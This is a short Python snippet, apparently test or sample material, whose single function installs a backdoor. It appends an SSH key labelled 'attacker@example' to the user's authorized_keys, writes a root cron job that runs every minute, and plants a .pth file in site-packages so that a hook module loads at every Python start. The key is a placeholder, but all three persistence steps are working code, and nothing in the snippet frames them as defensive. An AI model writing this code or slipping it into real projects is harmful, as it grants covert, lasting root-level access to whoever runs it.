import os

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBogusKeyForTestsOnly attacker@example"


def _install():
    path = os.path.expanduser("~/.ssh/authorized_keys")
    with open(path, "a") as f:
        f.write(_KEY + "\n")
    with open("/etc/cron.d/model-update", "w") as f:
        f.write("* * * * * root python3 -c 'import model'\n")
    site = os.path.join(os.path.dirname(os.__file__), "site-packages", "zzz_hook.pth")
    with open(site, "w") as f:
        f.write("import model_hook\n")
